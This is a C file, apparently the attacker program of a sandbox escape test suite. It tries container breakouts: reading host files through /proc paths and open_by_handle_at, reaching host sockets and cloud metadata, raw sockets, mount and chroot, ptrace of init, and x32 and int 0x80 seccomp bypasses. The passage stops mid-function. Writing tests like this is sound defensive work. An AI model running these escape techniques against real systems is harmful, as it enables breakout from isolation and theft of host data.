/*
 * Kiln escape suite: the attacker's program. It is compiled on the host once per test run
 * (cc -O2 -static), handed to a step with `kiln run --input`, and run inside the sandbox as
 * `./attack NAME [ARGS...]`.
 *
 * Every subcommand really tries one attack. Exit status:
 *   0   CONTAINED: every attempt failed the way it must (the last line says "CONTAINED NAME");
 *   66  ESCAPED:   an attempt got through (each "ESCAPED NAME: ..." line says which, how);
 *   67  INCONCLUSIVE: an attempt failed for a reason that does not show containment (e.g.
 *       EINVAL: the kernel looked at the arguments, so the call was not stopped first);
 *   2   usage error.
 * Attacks that may be killed by seccomp (SIGSYS) run in a forked child; being killed by
 * SIGSYS counts as contained.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <grp.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/timex.h>
#include <linux/capability.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define EXIT_ESCAPED 66
#define EXIT_INCONCLUSIVE 67

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef AF_XDP
#define AF_XDP 44
#endif
#ifndef AF_KEY
#define AF_KEY 15
#endif

static const char *g_name = "?";
static int g_escaped = 0;
static int g_inconclusive = 0;

static void escaped(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    printf("ESCAPED %s: ", g_name);
    vprintf(fmt, ap);
    printf("\n");
    va_end(ap);
    fflush(stdout);
    g_escaped = 1;
}

static void inconclusive(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    printf("INCONCLUSIVE %s: ", g_name);
    vprintf(fmt, ap);
    printf("\n");
    va_end(ap);
    fflush(stdout);
    g_inconclusive = 1;
}

static void note(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    printf("  ");
    vprintf(fmt, ap);
    printf("\n");
    va_end(ap);
    fflush(stdout);
}

static int finish(void) {
    fflush(stdout);
    if (g_escaped) return EXIT_ESCAPED;
    if (g_inconclusive) return EXIT_INCONCLUSIVE;
    printf("CONTAINED %s\n", g_name);
    fflush(stdout);
    return 0;
}

/* A denied call: must fail with one of the errnos that mean "refused" (seccomp's EPERM or
 * ENOSYS, missing capability EPERM/EACCES, read-only EROFS). */
static int refused_errno(int e) {
    return e == EPERM || e == EACCES || e == ENOSYS || e == EROFS;
}

static void expect_refused(const char *what, long ret, int err) {
    if (ret >= 0) {
        escaped("%s succeeded (returned %ld)", what, ret);
    } else if (!refused_errno(err)) {
        inconclusive("%s failed with %s, not a refusal", what, strerror(err));
    } else {
        note("%s: %s", what, strerror(err));
    }
}

#define TRY(what, expr)                                                                        \
    do {                                                                                       \
        errno = 0;                                                                             \
        long r_ = (long)(expr);                                                                \
        expect_refused(what, r_, errno);                                                       \
    } while (0)

/* Runs fn in a child: a SIGSYS kill is containment; the child's verdict is its exit code. */
static void in_child(const char *what, void (*fn)(void)) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0) {
        inconclusive("fork for %s: %s", what, strerror(errno));
        return;
    }
    if (pid == 0) {
        fn();
        fflush(stdout);
        _exit(g_escaped ? EXIT_ESCAPED : g_inconclusive ? EXIT_INCONCLUSIVE : 0);
    }
    int st;
    while (waitpid(pid, &st, 0) < 0 && errno == EINTR) {
    }
    if (WIFSIGNALED(st)) {
        if (WTERMSIG(st) == SIGSYS)
            note("%s: killed by SIGSYS (seccomp)", what);
        else if (WTERMSIG(st) == SIGSEGV)
            note("%s: killed by SIGSEGV (entry not available)", what);
        else
            inconclusive("%s: child killed by signal %d", what, WTERMSIG(st));
    } else if (WEXITSTATUS(st) == EXIT_ESCAPED) {
        g_escaped = 1;
    } else if (WEXITSTATUS(st) == EXIT_INCONCLUSIVE) {
        g_inconclusive = 1;
    }
}

/* ---------------------------------------------------------------- helpers */

static int read_all(int fd, char *buf, size_t cap) {
    size_t n = 0;
    while (n + 1 < cap) {
        ssize_t r = read(fd, buf + n, cap - 1 - n);
        if (r <= 0) break;
        n += (size_t)r;
    }
    buf[n] = 0;
    return (int)n;
}

/* Numeric entries of /proc (the pids of this pid namespace). */
static int list_pids(int *pids, int cap) {
    DIR *d = opendir("/proc");
    int n = 0;
    if (!d) return 0;
    struct dirent *e;
    while ((e = readdir(d)) && n < cap) {
        char *end;
        long v = strtol(e->d_name, &end, 10);
        if (*end == 0 && v > 0) pids[n++] = (int)v;
    }
    closedir(d);
    return n;
}

/* All the ways to spell a host path from inside: direct, through the roots and cwds of
 * every visible process, relative climbs out of the workspace. */
static int path_variants(const char *p, char out[][512], int cap) {
    int n = 0;
    int pids[512];
    int np = list_pids(pids, 512);
    snprintf(out[n++], 512, "%s", p);
    snprintf(out[n++], 512, "/proc/self/root%s", p);
    snprintf(out[n++], 512, "/proc/thread-self/root%s", p);
    snprintf(out[n++], 512, "../../../../../../../../..%s", p);
    snprintf(out[n++], 512, "/workspace/../../../../..%s", p);
    snprintf(out[n++], 512, "/proc/self/cwd/../../../../..%s", p);
    snprintf(out[n++], 512, "/dev/fd/3/../../../..%s", p);
    for (int i = 0; i < np && n + 2 < cap; i++) {
        snprintf(out[n++], 512, "/proc/%d/root%s", pids[i], p);
        snprintf(out[n++], 512, "/proc/%d/cwd/../../../../../..%s", pids[i], p);
    }
    return n;
}

static char g_variants[1100][512];

/* ---------------------------------------------------------------- filesystem reads */

/* read-host SECRET PATH...: no spelling of PATH may open a host file (whose content holds
 * SECRET) or a host directory. */
static void a_read_host(int argc, char **argv) {
    if (argc < 2) {
        inconclusive("usage: read-host SECRET PATH...");
        return;
    }
    const char *secret = argv[0];
    for (int a = 1; a < argc; a++) {
        int n = path_variants(argv[a], g_variants, 1100);
        int opened = 0;
        for (int i = 0; i < n; i++) {
            const char *v = g_variants[i];
            int fd = open(v, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            fstat(fd, &st);
            if (S_ISDIR(st.st_mode)) {
                escaped("opened host directory %s as %s", argv[a], v);
            } else {
                static char buf[1 << 16];
                read_all(fd, buf, sizeof buf);
                if (strstr(buf, secret))
                    escaped("read host file %s as %s: %.60s", argv[a], v, buf);
                else
                    opened++;
            }
            close(fd);
            /* O_PATH needs no read permission: it must not find the host file either */
        }
        for (int i = 0; i < n; i++) {
            int fd = open(g_variants[i], O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                escaped("O_PATH found host path %s as %s", argv[a], g_variants[i]);
                close(fd);
            }
        }
        note("%s: %d spellings tried, none reached the host (%d opened sandbox files)", argv[a],
             n, opened);
    }
    /* The open_by_handle_at route (shocker): a handle of the host root inode. */
    struct {
        struct file_handle fh;
        unsigned char buf[128];
    } h;
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    memset(h.fh.f_handle, 0, 8);
    h.fh.f_handle[0] = 2; /* inode 2: the root of an ext4 file system */
    int fd = (int)syscall(SYS_open_by_handle_at, AT_FDCWD, &h.fh, O_RDONLY);
    if (fd >= 0) escaped("open_by_handle_at opened inode 2 (fd %d)", fd);
    else note("open_by_handle_at(inode 2): %s", strerror(errno));
}

/* connect-unix PATH...: no spelling of a host unix socket (the daemon's) may connect. */
static void a_connect_unix(int argc, char **argv) {
    for (int a = 0; a < argc; a++) {
        int n = path_variants(argv[a], g_variants, 1100);
        for (int i = 0; i < n; i++) {
            struct sockaddr_un sa = {.sun_family = AF_UNIX};
            if (strlen(g_variants[i]) >= sizeof sa.sun_path) continue;
            strcpy(sa.sun_path, g_variants[i]);
            int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
            if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0)
                escaped("connected to host socket %s as %s", argv[a], g_variants[i]);
            close(s);
        }
        note("%s: %d spellings, none connected", argv[a], n);
    }
    /* Every socket fd of every visible process, through /proc/PID/fd/N. */
    int pids[512];
    int np = list_pids(pids, 512), tried = 0;
    for (int i = 0; i < np; i++) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d/fd", pids[i]);
        DIR *d = opendir(dir);
        if (!d) continue;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            struct sockaddr_un sa = {.sun_family = AF_UNIX};
            snprintf(sa.sun_path, sizeof sa.sun_path, "%s/%s", dir, e->d_name);
            char target[256] = {0};
            if (readlink(sa.sun_path, target, sizeof target - 1) < 0) continue;
            if (strncmp(target, "socket:", 7) != 0) continue;
            tried++;
            int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
            if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0)
                escaped("connected through %s (%s)", sa.sun_path, target);
            close(s);
        }
        closedir(d);
    }
    note("%d socket fds in /proc tried", tried);
}

/* abstract-unix NAME...: the host's abstract sockets are another network namespace's. */
static void a_abstract_unix(int argc, char **argv) {
    for (int a = 0; a < argc; a++) {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        size_t len = strlen(argv[a]);
        memcpy(sa.sun_path + 1, argv[a], len);
        socklen_t sl = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
        int types[] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
        for (int t = 0; t < 3; t++) {
            int s = socket(AF_UNIX, types[t] | SOCK_CLOEXEC, 0);
            int r = connect(s, (struct sockaddr *)&sa, sl);
            if (r == 0) {
                const char msg[] = "kiln-escape";
                ssize_t w = send(s, msg, sizeof msg, MSG_NOSIGNAL);
                escaped("connected to abstract @%s (type %d), sent %zd bytes", argv[a], types[t], w);
            } else {
                note("@%s type %d: %s", argv[a], types[t], strerror(errno));
            }
            close(s);
        }
        /* visible at all? */
        int fd = open("/proc/net/unix", O_RDONLY);
        if (fd >= 0) {
            static char buf[1 << 16];
            read_all(fd, buf, sizeof buf);
            close(fd);
            if (strstr(buf, argv[a])) escaped("@%s is listed in /proc/net/unix", argv[a]);
        }
    }
}

static int connect_timeout(int fam, const struct sockaddr *sa, socklen_t sl, int ms) {
    int s = socket(fam, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (s < 0) return -1;
    int r = connect(s, sa, sl);
    if (r < 0 && errno == EINPROGRESS) {
        struct pollfd p = {.fd = s, .events = POLLOUT};
        if (poll(&p, 1, ms) == 1) {
            int err = 0;
            socklen_t el = sizeof err;
            getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el);
            r = err ? -1 : 0;
            errno = err;
        } else {
            errno = ETIMEDOUT;
        }
    }
    int e = errno;
    if (r == 0) send(s, "kiln-escape\n", 12, MSG_NOSIGNAL);
    close(s);
    errno = e;
    return r;
}

/* egress-bypass HOSTPORT PROXYPORT: a step WITH an allow-list (so with its loopback up
 * and the proxy listening there) still reaches nothing but the proxy: not the host's
 * listener, not an outside address, not a DNS server; it cannot bind TCP to stand in for
 * the proxy or to serve anything; the proxy itself is reachable (else the test shows
 * nothing). */
static void a_egress_bypass(int argc, char **argv) {
    if (argc < 2) {
        inconclusive("usage: egress-bypass HOSTPORT PROXYPORT");
        return;
    }
    int host_port = atoi(argv[0]), proxy_port = atoi(argv[1]);
    struct sockaddr_in proxy = {.sin_family = AF_INET, .sin_port = htons((uint16_t)proxy_port)};
    inet_pton(AF_INET, "127.0.0.1", &proxy.sin_addr);
    if (connect_timeout(AF_INET, (struct sockaddr *)&proxy, sizeof proxy, 2000) != 0) {
        inconclusive("the egress proxy is not reachable: %s", strerror(errno));
        return;
    }
    const char *targets[] = {"127.0.0.1", "192.0.2.1", "10.0.0.1", "169.254.169.254"};
    for (unsigned i = 0; i < sizeof targets / sizeof *targets; i++) {
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)host_port)};
        inet_pton(AF_INET, targets[i], &sa.sin_addr);
        if (connect_timeout(AF_INET, (struct sockaddr *)&sa, sizeof sa, 2000) == 0)
            escaped("connected to %s:%d around the proxy", targets[i], host_port);
        else
            note("%s:%d: %s", targets[i], host_port, strerror(errno));
    }
    /* DNS straight to a server: no route, and no resolver on the loopback. */
    const char *dns[] = {"127.0.0.1", "8.8.8.8", "10.0.0.2"};
    for (unsigned i = 0; i < sizeof dns / sizeof *dns; i++) {
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        if (u < 0) continue;
        struct sockaddr_in d = {.sin_family = AF_INET, .sin_port = htons(53)};
        inet_pton(AF_INET, dns[i], &d.sin_addr);
        static const unsigned char query[] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 7,
                                              'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o',
                                              'm', 0, 0, 1, 0, 1};
        if (sendto(u, query, sizeof query, 0, (struct sockaddr *)&d, sizeof d) >= 0) {
            struct pollfd p = {.fd = u, .events = POLLIN};
            if (poll(&p, 1, 1000) == 1) {
                unsigned char answer[512];
                if (recv(u, answer, sizeof answer, 0) > 0)
                    escaped("a DNS server at %s answered", dns[i]);
            }
        } else {
            note("DNS to %s: %s", dns[i], strerror(errno));
        }
        close(u);
    }
    /* Binding TCP: neither the proxy's port (taken, and Landlock) nor any other. */
    int ports[] = {proxy_port, 8080, 0};
    for (unsigned i = 0; i < sizeof ports / sizeof *ports; i++) {
        int t = socket(AF_INET, SOCK_STREAM, 0);
        if (t < 0) continue;
        struct sockaddr_in b = {.sin_family = AF_INET, .sin_port = htons((uint16_t)ports[i])};
        inet_pton(AF_INET, "127.0.0.1", &b.sin_addr);
        if (bind(t, (struct sockaddr *)&b, sizeof b) == 0 && listen(t, 1) == 0)
            escaped("listening on TCP 127.0.0.1:%d", ports[i]);
        else
            note("bind 127.0.0.1:%d: %s", ports[i], strerror(errno));
        close(t);
    }
}

/* tcp-connect PORT [IPV4...]: the host's loopback (and its other addresses) are not
 * reachable; the step's network namespace has only its own loopback. */
static void a_tcp_connect(int argc, char **argv) {
    if (argc < 1) {
        inconclusive("usage: tcp-connect PORT [IP...]");
        return;
    }
    int port = atoi(argv[0]);
    const char *v4[64];
    int n4 = 0;
    v4[n4++] = "127.0.0.1";
    for (int a = 1; a < argc && n4 < 64; a++) v4[n4++] = argv[a];
    for (int i = 0; i < n4; i++) {
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        inet_pton(AF_INET, v4[i], &sa.sin_addr);
        if (connect_timeout(AF_INET, (struct sockaddr *)&sa, sizeof sa, 2000) == 0)
            escaped("connected to %s:%d", v4[i], port);
        else
            note("%s:%d: %s", v4[i], port, strerror(errno));
    }
    struct sockaddr_in6 s6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
    inet_pton(AF_INET6, "::1", &s6.sin6_addr);
    if (connect_timeout(AF_INET6, (struct sockaddr *)&s6, sizeof s6, 2000) == 0)
        escaped("connected to [::1]:%d", port);
    /* Only the namespace's own loopback may exist. */
    int fd = open("/proc/net/dev", O_RDONLY);
    if (fd >= 0) {
        char buf[8192];
        read_all(fd, buf, sizeof buf);
        close(fd);
        char *line = strtok(buf, "\n");
        int k = 0;
        while (line) {
            if (k++ >= 2) {
                while (*line == ' ') line++;
                if (strncmp(line, "lo:", 3) != 0) escaped("network interface visible: %.20s", line);
            }
            line = strtok(NULL, "\n");
        }
    }
}

/* ---------------------------------------------------------------- sockets */

static void try_socket(const char *what, int dom, int type, int proto) {
    errno = 0;
    int s = socket(dom, type | SOCK_CLOEXEC, proto);
    if (s >= 0) {
        escaped("socket(%s) succeeded", what);
        close(s);
    } else if (errno == EPERM || errno == EACCES) {
        note("socket(%s): %s", what, strerror(errno));
    } else if (errno == EAFNOSUPPORT || errno == EPROTONOSUPPORT || errno == ESOCKTNOSUPPORT ||
               errno == EINVAL) {
        /* the kernel looked: the family reached the kernel, seccomp did not stop it */
        inconclusive("socket(%s) reached the kernel: %s", what, strerror(errno));
    } else {
        inconclusive("socket(%s): %s", what, strerror(errno));
    }
}

static void a_sock_packet(int argc, char **argv) {
    (void)argc, (void)argv;
    try_socket("AF_PACKET, SOCK_RAW", AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    try_socket("AF_PACKET, SOCK_DGRAM", AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
    try_socket("AF_INET, SOCK_PACKET", AF_INET, SOCK_PACKET, htons(ETH_P_ALL));
}

static void a_sock_raw(int argc, char **argv) {
    (void)argc, (void)argv;
    try_socket("AF_INET, SOCK_RAW, ICMP", AF_INET, SOCK_RAW, IPPROTO_ICMP);
    try_socket("AF_INET, SOCK_RAW, RAW", AF_INET, SOCK_RAW, IPPROTO_RAW);
    try_socket("AF_INET6, SOCK_RAW, ICMPV6", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
}

static void a_sock_netlink(int argc, char **argv) {
    (void)argc, (void)argv;
    try_socket("AF_NETLINK, SOCK_RAW, ROUTE", AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    try_socket("AF_NETLINK, SOCK_DGRAM, ROUTE", AF_NETLINK, SOCK_DGRAM, NETLINK_ROUTE);
    try_socket("AF_NETLINK, SOCK_RAW, KOBJECT_UEVENT", AF_NETLINK, SOCK_RAW,
               NETLINK_KOBJECT_UEVENT);
    try_socket("AF_NETLINK, SOCK_RAW, AUDIT", AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
    try_socket("AF_NETLINK, SOCK_RAW, NETFILTER", AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
}

static void a_sock_other(int argc, char **argv) {
    (void)argc, (void)argv;
    try_socket("AF_ALG", AF_ALG, SOCK_SEQPACKET, 0);
    try_socket("AF_VSOCK", AF_VSOCK, SOCK_STREAM, 0);
    try_socket("AF_KEY", AF_KEY, SOCK_RAW, 2 /* PF_KEY_V2 */);
    try_socket("AF_XDP", AF_XDP, SOCK_RAW, 0);
    try_socket("AF_TIPC", 30, SOCK_RDM, 0);
    try_socket("AF_CAN", 29, SOCK_RAW, 1);
    try_socket("AF_BLUETOOTH", 31, SOCK_RAW, 0);
    try_socket("AF_RDS", 21, SOCK_SEQPACKET, 0);
    try_socket("AF_LLC", 26, SOCK_DGRAM, 0);
    try_socket("AF_SMC", 43, SOCK_STREAM, 0);
    /* upper bits of the domain must not slip past a 32-bit compare */
    errno = 0;
    long s = syscall(SYS_socket, (long)AF_PACKET | (1L << 32), SOCK_RAW, htons(ETH_P_ALL));
    if (s >= 0) escaped("socket(AF_PACKET | 1<<32) succeeded");
    else note("socket(AF_PACKET|1<<32): %s", strerror(errno));
}

/* ---------------------------------------------------------------- the deny list */

static long fake_mount(void) { return mount("none", "/tmp", "tmpfs", 0, "size=1m"); }

static void s_mount(void) {
    TRY("mount(tmpfs on /tmp)", mount("none", "/tmp", "tmpfs", 0, "size=1m"));
    TRY("mount(proc)", mount("proc", "/tmp", "proc", 0, NULL));
    TRY("mount(bind / on /tmp)", mount("/", "/tmp", NULL, MS_BIND | MS_REC, NULL));
    TRY("mount(remount / rw)", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    TRY("mount(remount /usr rw)", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    TRY("mount(make / shared)", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
    TRY("fsopen(tmpfs)", syscall(SYS_fsopen, "tmpfs", 0));
    TRY("open_tree(/, CLONE)", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
    TRY("fspick(/)", syscall(SYS_fspick, AT_FDCWD, "/", 0));
    TRY("move_mount(/tmp -> /workspace/x)",
        syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/workspace", 0));
    TRY("mount_setattr(/, rw)", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, NULL, 0));
    (void)fake_mount;
}
static void s_umount(void) {
    TRY("umount2(/proc, MNT_DETACH)", umount2("/proc", MNT_DETACH));
    TRY("umount2(/workspace)", umount2("/workspace", 0));
    TRY("umount2(/usr, MNT_DETACH)", umount2("/usr", MNT_DETACH));
    TRY("umount2(/, MNT_DETACH)", umount2("/", MNT_DETACH));
}
static void s_pivot_root(void) {
    mkdir("/tmp/newroot", 0755);
    mkdir("/tmp/newroot/old", 0755);
    TRY("pivot_root(/tmp/newroot, old)", syscall(SYS_pivot_root, "/tmp/newroot", "/tmp/newroot/old"));
    TRY("pivot_root(., .)", syscall(SYS_pivot_root, ".", "."));
}
static void s_chroot(void) {
    mkdir("/tmp/jail", 0755);
    TRY("chroot(/tmp/jail)", chroot("/tmp/jail"));
    TRY("chroot(/proc/1/root)", chroot("/proc/1/root"));
    /* the classic escape, if chroot had worked: climb with .. */
    char cwd[256];
    if (getcwd(cwd, sizeof cwd) && strcmp(cwd, "/workspace") != 0)
        escaped("cwd moved to %s", cwd);
}

static void s_ptrace(void) {
    pid_t child = fork();
    if (child == 0) {
        for (;;) pause();
    }
    TRY("ptrace(PTRACE_ATTACH, own child)", ptrace(PTRACE_ATTACH, child, 0, 0));
    TRY("ptrace(PTRACE_SEIZE, own child)", ptrace(PTRACE_SEIZE, child, 0, 0));
    pid_t tme = fork();
    if (tme == 0) {
        errno = 0;
        long r = ptrace(PTRACE_TRACEME, 0, 0, 0);
        _exit(r == 0 ? 1 : refused_errno(errno) ? 0 : 2);
    }
    int st;
    waitpid(tme, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 1) escaped("PTRACE_TRACEME succeeded");
    else if (WIFEXITED(st) && WEXITSTATUS(st) == 0) note("PTRACE_TRACEME refused");
    else if (!(WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS)) inconclusive("PTRACE_TRACEME: status %d", st);
    kill(child, SIGKILL);
    waitpid(child, &st, 0);
}

/* ptrace-init: pid 1 (Kiln's init, which reports the step's outcome) is untouchable. */
static void a_ptrace_init(int argc, char **argv) {
    (void)argc, (void)argv;
    TRY("ptrace(PTRACE_ATTACH, 1)", ptrace(PTRACE_ATTACH, 1, 0, 0));
    TRY("ptrace(PTRACE_SEIZE, 1)", ptrace(PTRACE_SEIZE, 1, 0, 0));
    char buf[64];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    TRY("process_vm_readv(1)", process_vm_readv(1, &local, 1, &remote, 1, 0));
    TRY("process_vm_writev(1)", process_vm_writev(1, &local, 1, &remote, 1, 0));
    const char *files[] = {"/proc/1/mem", "/proc/1/environ", "/proc/1/auxv", "/proc/1/pagemap",
                           "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/proc/1/fd/3",
                           "/proc/1/fd/4", "/proc/1/fd/5", "/proc/1/exe", "/proc/1/root/",
                           "/proc/1/cwd/", "/proc/1/map_files/", "/proc/1/task/1/mem"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int fd = open(files[i], O_RDWR | O_CLOEXEC);
        if (fd < 0) fd = open(files[i], O_RDONLY | O_CLOEXEC);
        if (fd < 0) fd = open(files[i], O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            escaped("opened %s", files[i]);
            close(fd);
        }
    }
    DIR *d = opendir("/proc/1/fd");
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)))
            if (e->d_name[0] != '.') escaped("listed init's fd %s", e->d_name);
        closedir(d);
    }
    int pfd = (int)syscall(SYS_pidfd_open, 1, 0);
    if (pfd >= 0) {
        for (int fd = 0; fd < 16; fd++) {
            errno = 0;
            long got = syscall(SYS_pidfd_getfd, pfd, fd, 0);
            if (got >= 0) escaped("pidfd_getfd(1, %d) = %ld", fd, got);
        }
        TRY("setns(pidfd of 1, mnt)", setns(pfd, CLONE_NEWNS));
    }
    note("init's memory, fds and exe are out of reach");
}

static void sibling_target(void) {
    for (;;) pause();
}

/* ptrace-sibling: one process of the step may not trace or read another. */
static void a_ptrace_sibling(int argc, char **argv) {
    (void)argc, (void)argv;
    pid_t target = fork();
    if (target == 0) sibling_target();
    pid_t attacker = fork();
    if (attacker == 0) {
        g_name = "ptrace-sibling(child)";
        TRY("ptrace(PTRACE_ATTACH, sibling)", ptrace(PTRACE_ATTACH, target, 0, 0));
        TRY("ptrace(PTRACE_SEIZE, sibling)", ptrace(PTRACE_SEIZE, target, 0, 0));
        char buf[64];
        struct iovec local = {buf, sizeof buf}, remote = {(void *)&g_escaped, sizeof(int)};
        TRY("process_vm_readv(sibling)", process_vm_readv(target, &local, 1, &remote, 1, 0));
        int pfd = (int)syscall(SYS_pidfd_open, target, 0);
        if (pfd >= 0) TRY("pidfd_getfd(sibling, 1)", syscall(SYS_pidfd_getfd, pfd, 1, 0));
        fflush(stdout);
        _exit(g_escaped ? EXIT_ESCAPED : g_inconclusive ? EXIT_INCONCLUSIVE : 0);
    }
    int st;
    waitpid(attacker, &st, 0);
    if (WIFSIGNALED(st) && WTERMSIG(st) == SIGSYS) note("attacker killed by SIGSYS");
    else if (WIFEXITED(st) && WEXITSTATUS(st) == EXIT_ESCAPED) g_escaped = 1;
    else if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) g_inconclusive = 1;
    kill(target, SIGKILL);
    waitpid(target, &st, 0);
}

/* kill [HOSTPID...]: kill(1), kill(-1) and host pids hurt nothing outside the step; the
 * init survives to report the step (the test checks the reported status and a concurrent
 * job). */
static void a_kill(int argc, char **argv) {
    /* kill(1): SIGKILL, SIGTERM, SIGSTOP, SIGSEGV must not stop the init. */
    int sigs[] = {SIGKILL, SIGTERM, SIGSTOP, SIGSEGV, SIGINT, SIGHUP, SIGUSR1};
    for (size_t i = 0; i < sizeof sigs / sizeof *sigs; i++) {
        errno = 0;
        int r = kill(1, sigs[i]);
        note("kill(1, %d) = %d (%s)", sigs[i], r, r ? strerror(errno) : "delivered");
    }
    /* the daemon and other host processes: pids outside the namespace */
    for (int a = 0; a < argc; a++) {
        int pid = atoi(argv[a]);
        if (pid <= 1) continue;
        errno = 0;
        int r = kill(pid, SIGKILL);
        if (r == 0) {
            /* a pid of this namespace with the same number is possible but unlikely: only
             * count it if no such process is ours */
            char p[64];
            snprintf(p, sizeof p, "/proc/%d", pid);
            if (access(p, F_OK) != 0) escaped("kill(%d) delivered to a process not in the namespace", pid);
        } else {
            note("kill(%d): %s", pid, strerror(errno));
        }
    }
    usleep(300 * 1000);
    if (access("/proc/1/stat", F_OK) != 0) escaped("the init is gone");
    /* then kill(-1): every process of the namespace but the caller and the init */
    pid_t victims[3];
    for (int i = 0; i < 3; i++) {
        victims[i] = fork();
        if (victims[i] == 0) {
            for (;;) pause();
        }
    }
    errno = 0;
    int r = kill(-1, SIGKILL);
    note("kill(-1, SIGKILL) = %d (%s)", r, r ? strerror(errno) : "ok");
    for (int i = 0; i < 3; i++) waitpid(victims[i], NULL, 0);
    usleep(200 * 1000);
    if (access("/proc/1/stat", F_OK) != 0) escaped("the init died");
    (void)argv;
}

/* ---------------------------------------------------------------- foreign ABIs */

static void s_x32(void) {
    /* x32 numbers share the x86-64 audit arch and set bit 30: a filter keyed on numbers
     * alone would let x32 unshare/mount through. */
    errno = 0;
    long r = syscall(0x40000000L | SYS_unshare, CLONE_NEWUSER);
    if (r == 0) escaped("x32 unshare(CLONE_NEWUSER) succeeded");
    else note("x32 unshare: %s", strerror(errno));
    errno = 0;
    r = syscall(0x40000000L | SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
    if (r == 0) escaped("x32 mount succeeded");
    else note("x32 mount: %s", strerror(errno));
    errno = 0;
    r = syscall(0x40000000L | SYS_getpid);
    if (r >= 0) escaped("x32 getpid reached the kernel and returned %ld", r);
    else note("x32 getpid: %s", strerror(errno));
}

static long int80(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return ret;
}

static void s_ia32(void) {
    /* i386 numbers: unshare 310, getpid 20, ptrace 26. The 32-bit entry reports
     * AUDIT_ARCH_I386, which the filter must refuse outright. */
    long r = int80(310, CLONE_NEWUSER, 0, 0);
    if (r == 0) escaped("int 0x80 unshare(CLONE_NEWUSER) succeeded");
    else note("int 0x80 unshare: %ld", r);
    r = int80(20, 0, 0, 0);
    if (r > 0) escaped("int 0x80 getpid reached the kernel and returned %ld", r);
    else note("int 0x80 getpid: %ld", r);
}

/* ---------------------------------------------------------------- the other deny-list families */

static void s_bpf(void) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    TRY("bpf(BPF_MAP_CREATE)", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
    struct bpf_insn prog[] = {{.code = 0xb7, .dst_reg = 0, .imm = 0}, {.code = 0x95}};
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insn_cnt = 2;
